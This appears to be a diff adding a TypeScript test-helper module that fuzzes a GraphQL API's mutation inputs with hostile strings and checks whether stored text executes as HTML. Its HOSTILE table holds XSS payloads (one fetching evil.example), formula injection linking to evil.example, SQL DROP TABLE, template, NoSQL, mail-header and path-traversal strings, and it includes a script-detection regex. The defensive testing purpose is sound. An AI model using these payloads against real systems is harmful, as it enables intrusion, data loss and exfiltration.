@@ -1,0 +1,80 @@
+import { getNamedType, isInputObjectType, isListType, isNonNullType, type GraphQLInputType, type GraphQLSchema } from 'graphql';
+
+/** Texts that have done harm somewhere, each around a `mark` by which it is found again. */
+export const HOSTILE: Readonly<Record<string, (mark: string) => string>> = {
+  'a script': (mark) => `${mark}</title><svg/onload=alert(1)><script>fetch("//evil.example")</script>`,
+  'an attribute': (mark) => `${mark}"><img src=x onerror=alert(1)>`,
+  'an address that runs': (mark) => `javascript:alert(1)//${mark}`,
+  'a formula': (mark) => `=HYPERLINK("http://evil.example","${mark}")`,
+  'a formula by @': (mark) => `@SUM(1)${mark}`,
+  'a formula after a tab': (mark) => `\t=1+1${mark}`,
+  'right to left and zero width': (mark) => `${mark}\u202Eexe.\u202C\u2066x\u2069a\u200Bb\u2060c\uFEFFd`,
+  'a null byte': (mark) => `${mark}a\u0000b`,
+  'four bytes': (mark) => `${mark}🎟️👩🏽‍🎤𝔐`,
+  'very long': (mark) => `${mark}${'long '.repeat(8000)}end`,
+  'half a character': (mark) => `${mark}a\uD800b`,
+  'a template': (mark) => `${mark}{{constructor.constructor("x")()}} \${7*7} <%= 7*7 %>'; DROP TABLE users; --`,
+  'mail headers': (mark) => `${mark}\r\nBcc: evil@example.com\r\n\r\nbody`,
+  'an operator': (mark) => `${mark}{"$ne": null, "$where": "sleep(1)"}`,
+  'a path': (mark) => `../../${mark}/../etc/passwd%00?x=1#y`,
+};
+
+/** What reads such a text as something else than text when it stands in HTML as it is. */
+export function runsIn(html: string): boolean {
+  return /<script>fetch|<img src=x|<svg\/onload|(?:href|src)\s*=\s*["']?\s*javascript:/i.test(html);
+}
+
+/** Every place of a text in a type, as `user.firstName`, `contacts[].email`. */
+export function textPlaces(type: GraphQLInputType, path: string, depth = 6): string[] {
+  if (isNonNullType(type)) return textPlaces(type.ofType, path, depth);
+  if (isListType(type)) return textPlaces(type.ofType, `${path}[]`, depth);
+  const named = getNamedType(type);
+  if (!isInputObjectType(named)) return named.name === 'String' ? [path] : [];
+  if (depth === 0) throw new Error(`${path} is nested deeper than this looks`);
+  return Object.values(named.getFields()).flatMap((field) => textPlaces(field.type, `${path}.${field.name}`, depth - 1));
+}
+
+/** The places of a text in the input of these mutations, as `register input.user.firstName`. */
+export function textPlacesOf(schema: GraphQLSchema, mutations: readonly string[]): string[] {
+  const fields = schema.getMutationType()!.getFields();
+  return mutations.flatMap((name) =>
+    fields[name]!.args.flatMap((arg) => textPlaces(arg.type, arg.name).map((place) => `${name} ${place}`)),
+  );
+}
+
+/** `variables` with `value` at a place; what leads there is made. */
+export function withTextAt(variables: object, place: string, value: string): object {
+  const copy = structuredClone(variables) as Record<string, unknown>;
+  const steps = place.split('.');
+  let at = copy;
+  for (const [index, step] of steps.entries()) {
+    const isLast = index === steps.length - 1;
+    const key = step.replace('[]', '');
+    if (step.endsWith('[]')) {
+      const list = (at[key] ??= []) as unknown[];
+      if (isLast) list[0] = value;
+      else at = (list[0] ??= {}) as Record<string, unknown>;
+    } else if (isLast) at[key] = value;
+    else at = (at[key] ??= {}) as Record<string, unknown>;
+  }
+  return copy;
+}
+
+const MADE_OF_IT = new Set(['nameTerms', 'searchTerms', 'stub']);
+
+/** Every text in a record of any depth, but for what is only made for finding it: search terms and names in addresses. */
+export function textsIn(value: unknown): string[] {
+  if (typeof value === 'string') return [value];
+  if (Array.isArray(value)) return value.flatMap(textsIn);
+  if (value === null || typeof value !== 'object' || value instanceof Date || '_bsontype' in value) return [];
+  return Object.entries(value).flatMap(([key, part]) => (MADE_OF_IT.has(key) ? [] : textsIn(part)));
+}
+
+/**
+ * How a text may be kept: as it is, or tidied as its rule says: without what surrounds it, line breaks, tabs and control
+ * signs as spaces, and runs of spaces as one or (names of organisations) as five.
+ */
+export function tidied(text: string): string[] {
+  const spaces = text.replaceAll(/[\s\p{Cc}]/gu, ' ');
+  return [text, text.trim(), spaces.trim(), spaces.replaceAll(/ {6,}/g, '     ').trim(), spaces.replaceAll(/ +/g, ' ').trim()];
+}
